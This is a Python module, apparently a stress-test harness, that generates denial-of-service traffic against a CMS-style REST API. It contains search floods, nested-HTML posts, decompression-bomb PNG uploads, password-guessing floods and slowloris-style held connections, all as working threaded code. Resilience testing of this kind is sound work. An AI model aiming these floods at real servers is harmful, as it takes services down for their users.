"""Requests that hold a server up: what callers below administrator can send, and how."""

from __future__ import annotations

import base64
import itertools
import json
import random
import socket
import threading
import zlib
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress
from dataclasses import dataclass, field
from urllib.parse import quote

PASSWORD = "abcdefghijklmnopqrstuvwx"
_WORDS = "東 京 都 大 阪 天 気 晴 雨 雪 山 川 海 空 花 鳥 風 月 春 夏 秋"
_LETTERS = " ".join("aeiotnsrlhdcumpfgywb")


@dataclass
class Target:
    """A server under attack."""

    host: str
    port: int
    stopped: threading.Event = field(default_factory=threading.Event)

    def connect(self, seconds: float = 30.0) -> socket.socket:
        """A new connection."""
        return socket.create_connection((self.host, self.port), timeout=seconds)

    def ask(self, request: bytes, seconds: float = 30.0) -> int:
        """One request on a connection of its own; the status."""
        with self.connect(seconds) as made:
            made.sendall(request)
            return self.finish(made)

    def finish(self, made: socket.socket) -> int:
        """Take an answer to its end, unless the attack is over; the status, 0 when there was none."""
        head = b""
        made.settimeout(0.2)
        while not self.stopped.is_set():
            try:
                part = made.recv(1 << 18)
            except TimeoutError:
                continue
            if not part:
                break
            head = head or part
        return int(head[9:12]) if head.startswith(b"HTTP/1.1 ") else 0


def get(path: str, role: str = "", more: str = "") -> bytes:
    """A GET that ends its connection."""
    return f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n{_basic(role)}{more}\r\n".encode()


def post(path: str, role: str, body: bytes, kind: str = "application/json", more: str = "") -> bytes:
    """A POST that ends its connection."""
    head = (
        f"POST {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n{_basic(role)}{more}"
        f"Content-Type: {kind}\r\nContent-Length: {len(body)}\r\n\r\n"
    )
    return head.encode() + body


def _basic(role: str) -> str:
    return f"Authorization: Basic {base64.b64encode(f'{role}:{PASSWORD}'.encode()).decode()}\r\n" if role else ""


def picture(side: int, salt: int, depth: int = 8) -> bytes:
    """A PNG of one colour, `side` pixels each way, RGBA: small on the wire and large when it is looked at."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + name + data + zlib.crc32(name + data).to_bytes(4, "big")

    head = side.to_bytes(4, "big") * 2 + bytes([depth, 6, 0, 0, 0])
    rows = zlib.compress((b"\x00" + bytes(side * depth // 2)) * side, 9)
    note = chunk(b"tEXt", b"Comment\x00" + str(salt).encode())
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + note + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def upload(name: str, body: bytes) -> bytes:
    """An upload by the author."""
    more = f'Content-Disposition: attachment; filename="{name}"\r\n'
    return post("/en/api/core/v2/media", "author", body, "application/octet-stream", more)


_NUMBERS = itertools.count()
Requests = Iterator[bytes]


def _searches(words: str, order: str = "date") -> Requests:
    listed = words.split()
    while True:
        random.shuffle(listed)
        path = f"/en/api/core/v2/posts?orderby={order}&n={next(_NUMBERS)}&search={quote(' '.join(listed))}"
        yield get(path)


def _unwanted() -> Requests:
    while True:
        words = " ".join("-" + word for word in _WORDS.split())
        yield get(f"/en/api/core/v2/posts?n={next(_NUMBERS)}&search={quote(words)}")


def _written(make: Callable[[], str], role: str = "contributor") -> Requests:
    while True:
        status = "draft" if role == "contributor" else "publish"
        body = json.dumps({"title": f"T{next(_NUMBERS)}", "status": status, "content": make()}).encode()
        yield post("/en/api/core/v2/posts", role, body)


def _pictures(side: int, depth: int) -> Requests:
    made = picture(side, 0, depth)
    while True:
        number = next(_NUMBERS)
        yield upload(f"p{number}.png", made.replace(b"Comment\x000", b"Comment\x00" + b"0"))


def _paths(*paths: str, role: str = "") -> Requests:
    for path in itertools.cycle(paths):
        yield get(path.replace("NUMBER", str(next(_NUMBERS))), role)


def _guesses() -> Requests:
    while True:
        name = random.choice(["editor", "author", f"nobody{next(_NUMBERS)}"])
        token = base64.b64encode(f"{name}:wrong{next(_NUMBERS)}".encode()).decode()
        yield get("/en/api/core/v2/posts", more=f"Authorization: Basic {token}\r\n")


def _lists() -> Requests:
    return _paths("/en/api/core/v2/posts?per_page=100&n=NUMBER", "/en/api/core/v2/posts?per_page=100&_embed&n=NUMBER",
                  "/en/api/core/v2/posts?per_page=100&_fields=id,content&order=asc&n=NUMBER")  # fmt: skip


#: Name → the requests that it makes, and how many at once.
ATTACKS: dict[str, tuple[Callable[[], Requests], int]] = {
    "searches of one character": (lambda: _searches(_WORDS), 16),
    "searches of letters, by relevance": (lambda: _searches(_LETTERS, "relevance"), 16),
    "searches of what must not be there": (_unwanted, 16),
    "nested blocks, 500 KB": (lambda: _written(lambda: "<div>" * 100_000), 8),
    "nested pre, 5 MB": (lambda: _written(lambda: "<pre>" * 1_000_000), 4),
    "300,000 attributes": (lambda: _written(lambda: "<p " + " ".join(f"a{n}=1" for n in range(300_000)) + ">x"), 4),
    "long texts, 4 MB": (lambda: _written(lambda: "Lorem \"ipsum\" dolor--sit amet.\n\n" * 130_000, "author"), 4),
    "lists of long texts": (_lists, 16),
    "pictures of 49 million pixels": (lambda: _pictures(7000, 8), 8),
    "pictures of 24 million pixels": (lambda: _pictures(4900, 8), 8),
    "pictures of 16 bits": (lambda: _pictures(4900, 16), 8),
    "JSON of 41 MB": (lambda: iter([upload("x.json", b"[" + b"[]," * 13_600_000 + b"[]]")] * 2), 2),
    "the OpenAPI description": (lambda: _paths("/openapi.json?n=NUMBER"), 16),
    "indexes": (lambda: _paths("/en/api/?n=NUMBER", "/ja/api/alpha/v4?n=NUMBER"), 16),
    "wrong passwords": (_guesses, 16),
    "post passwords": (lambda: _paths("/en/api/core/v2/posts/1?password=guessNUMBER"), 16),
    "pages and media, all at once": (
        lambda: _paths("/en/?n=NUMBER", "/en/api/core/v2/media?per_page=100&n=NUMBER", "/ja/?s=NUMBER",
                       "/en/api/core/v2/pages?per_page=100&orderby=title&n=NUMBER", "/en/post-1/?NUMBER"), 64,
    ),
}  # fmt: skip


def flood(target: Target, requests: Requests, at_once: int) -> list[threading.Thread]:
    lock = threading.Lock()

    def work() -> None:
        while not target.stopped.is_set():
            with lock:
                request = next(requests, None)
            if request is None:
                return
            with suppress(OSError, ValueError):
                target.ask(request)

    return _started([threading.Thread(target=work, daemon=True) for _ in range(at_once)])


def _started(threads: list[threading.Thread]) -> list[threading.Thread]:
    for thread in threads:
        thread.start()
    return threads


def hold(target: Target, start: bytes, more: bytes, number: int) -> list[threading.Thread]:
    """Connections that say `start`, and then `more` again and again as quickly as they can (b"": nothing more)."""

    def work() -> None:
        while not target.stopped.is_set():
            with ExitStack() as stack, suppress(OSError):
                made = [stack.enter_context(target.connect(5)) for _ in range(number)]
                for each in made:
                    each.sendall(start)
                while not target.stopped.wait(0.0 if more else 0.2):
                    for each in made:
                        if more:
                            each.sendall(more)

    return _started([threading.Thread(target=work, daemon=True) for _ in range(1 if number > 100 else 4)])


_HEAD = b"GET / HTTP/1.1\r\nHost: x\r\n"
HOLDS: dict[str, tuple[bytes, bytes, int]] = {
    "1,005 silent connections": (b"", b"", 1005),
    "1,005 half heads": (_HEAD, b"", 1005),
    "1,005 bodies that do not come": (
        b"POST /en/api/core/v2/posts HTTP/1.1\r\nHost: x\r\nContent-Length: 99\r\n\r\n{", b"", 1005),
    "headers without an end": (_HEAD, b"X-A: " + b"a" * 60_000 + b"\r\n", 1),
    "one header without an end": (_HEAD + b"X-A: ", b"a" * 65_536, 1),
    "answers that nobody takes": (b"GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n" * 4, b"", 300),
}  # fmt: skip
